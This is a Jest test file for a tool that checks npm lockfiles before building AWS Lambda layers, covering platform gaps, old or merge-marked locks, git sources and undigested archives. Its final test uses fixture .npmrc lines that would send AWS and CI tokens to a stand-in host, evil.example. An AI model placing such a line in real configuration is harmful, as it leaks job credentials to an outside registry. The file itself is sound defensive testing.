import { beforeAll, expect, test } from '@jest/globals';
import { expectProblem, locked, npmTree, ownHome, refusal, workspaceOf } from './build.ts';
import { startRegistry } from './registry.ts';
import type { Registry } from './registry.ts';
import type { Tree } from '../../layer/tree.ts';

let registry: Registry;

beforeAll(async () => {
  ownHome();
  registry = await startRegistry([
    { name: 'plain', version: '1.0.0' },
    {
      name: 'image',
      version: '1.0.0',
      fields: {
        optionalDependencies: {
          '@image/linux-arm64': '1.0.0',
          '@image/linux-x64': '1.0.0',
          '@image/darwin-arm64': '1.0.0',
        },
      },
    },
    { name: '@image/linux-arm64', version: '1.0.0', fields: { os: ['linux'], cpu: ['arm64'] } },
    { name: '@image/linux-x64', version: '1.0.0', fields: { os: ['linux'], cpu: ['x64'] } },
    { name: '@image/darwin-arm64', version: '1.0.0', fields: { os: ['darwin'], cpu: ['arm64'] } },
  ]);
});

const plain = (more: Record<string, unknown> = {}): Tree =>
  npmTree(
    registry,
    { dependencies: { plain: '^1.0.0' } },
    { 'node_modules/plain': locked(registry, 'plain', more) },
  );

const image = (...parts: string[]): Tree =>
  npmTree(
    registry,
    { dependencies: { image: '1.0.0' } },
    {
      'node_modules/image': locked(registry, 'image'),
      ...Object.fromEntries(
        parts.map((name) => [`node_modules/${name}`, locked(registry, name, { optional: true })]),
      ),
    },
  );

test('a layer without a runtime of Node.js is refused', async () => {
  expectProblem(
    await refusal(workspaceOf(plain()), { runtimes: ['python3.13'] }),
    'build/runtime',
    'package-lock.json has packages of Node.js, and `compatible-runtimes` names no Node.js.',
    'Add the runtimes of the functions: `compatible-runtimes: nodejs22.x, nodejs24.x`.',
  );
});

test('a lock that was written on a Mac is refused before anything is fetched', async () => {
  const before = registry.requests.length;
  expectProblem(
    await refusal(workspaceOf(image('@image/darwin-arm64'))),
    'build/lock-platform',
    'package-lock.json lacks packages for Linux on arm64: image is without @image/linux-arm64. npm leaves them out where a lock is renewed beside the node_modules of another system.',
    'Write the lock anew and commit it: `rm -rf node_modules package-lock.json && npm install`.',
  );
  expect(registry.requests.length).toBe(before);
});

test('compiled packages that are others on each CPU are refused for both, with the matrix', async () => {
  expectProblem(
    await refusal(workspaceOf(image('@image/linux-arm64', '@image/linux-x64', '@image/darwin-arm64')), {
      architectures: ['x86_64', 'arm64'],
    }),
    'build/two-architectures',
    '"@image/linux-arm64" and "@image/linux-x64" of package-lock.json have other files for x86_64 than for arm64, and one layer can only have one of them.',
    'Make a layer for each: `strategy: { matrix: { architecture: [x86_64, arm64] } }` on the job, and `layer-name: NAME-${{ matrix.architecture }}` with `compatible-architectures: ${{ matrix.architecture }}` on this step.',
  );
});

test('a lock of version 1 is refused with the command that renews it', async () => {
  const tree = {
    ...plain(),
    'package-lock.json': '{"name": "layer", "lockfileVersion": 1, "dependencies": {}}',
  };
  expectProblem(
    await refusal(workspaceOf(tree)),
    'build/old-lock',
    'package-lock.json is of lockfileVersion 1, which does not say which packages are for which platform.',
    'Write it anew with npm 7 or later and commit it: `npm install --package-lock-only --lockfile-version=3`.',
  );
});

test('a lock with the marks of a merge is refused', async () => {
  const lock = '{\n<<<<<<< HEAD\n  "lockfileVersion": 3\n=======\n  "lockfileVersion": 2\n>>>>>>> other\n}\n';
  expectProblem(
    await refusal(workspaceOf({ ...plain(), 'package-lock.json': lock })),
    'build/not-readable',
    'package-lock.json has the marks of a merge that was not finished (`<<<<<<<`).',
    'Finish the merge, write the file anew and commit it: `npm install --package-lock-only`.',
  );
});

test.each(['package-lock.json', 'package.json'])('a broken %s is refused', async (name) => {
  const problem = await refusal(workspaceOf({ ...plain(), [name]: '{"name": ' }));
  expect(problem.rule).toBe('build/not-readable');
  expect(problem.what).toBe(`${name} is no JSON: Unexpected end of JSON input.`);
});

test('a lock without its package.json is refused', async () => {
  const tree = { 'package-lock.json': plain()['package-lock.json'] ?? '' };
  const problem = await refusal(workspaceOf(tree));
  expect(problem.what).toBe('package.json cannot be read: ENOENT.');
});

test.each([
  'git+ssh://git@github.com/acme/plain.git#0123456789abcdef0123456789abcdef01234567',
  'git+https://user:secret@git.example.com/acme/plain.git#0123',
  'github:acme/plain',
])('a package from the repository %s is refused', async (resolved) => {
  const problem = await refusal(workspaceOf(plain({ resolved, integrity: undefined })));
  expect(problem.rule).toBe('build/local');
  expect(problem.what).toMatch(
    /^package-lock\.json has plain from \S+: a repository is built by scripts of its own, and none is run in the job that publishes\.$/,
  );
  expect(problem.what).not.toContain('secret');
});

test('an archive without a digest is refused', async () => {
  const address = 'https://example.com/plain.tgz';
  const tree = npmTree(
    registry,
    { dependencies: { plain: address } },
    { 'node_modules/plain': locked(registry, 'plain', { resolved: address, integrity: undefined }) },
  );
  const problem = await refusal(workspaceOf(tree));
  expect(problem.rule).toBe('build/hash');
  expect(problem.what).toBe(
    'package-lock.json has plain from https://example.com/plain.tgz without a digest, so the file could be another one each time.',
  );
});

test('a lock with nothing for production is refused', async () => {
  const tree = npmTree(
    registry,
    { devDependencies: { plain: '^1.0.0' } },
    { 'node_modules/plain': locked(registry, 'plain', { dev: true }) },
  );
  expectProblem(
    await refusal(workspaceOf(tree)),
    'build/empty',
    "package-lock.json has no package that is installed in production for Lambda's Linux.",
    'Move what functions need from `devDependencies` to `dependencies` in package.json, renew the lock with `npm install`, and commit both; in a monorepo, name the member: `workspace: packages/api`.',
  );
});

test.each(['AWS_SECRET_ACCESS_KEY', 'ACTIONS_ID_TOKEN_REQUEST_TOKEN', 'AWS_SESSION_TOKEN'])(
  'an .npmrc that would send %s to a registry is refused',
  async (name) => {
    const tree = { ...plain(), '.npmrc': `//evil.example/:_authToken=\${${name}}\n` };
    expectProblem(
      await refusal(workspaceOf(tree)),
      'build/setting',
      `The line "//evil.example/:_authToken" of .npmrc would send ${name} of the job to a registry.`,
      'Name a variable that holds the token of the registry: `//npm.example.com/:_authToken=${NPM_TOKEN}`.',
    );
  },
);
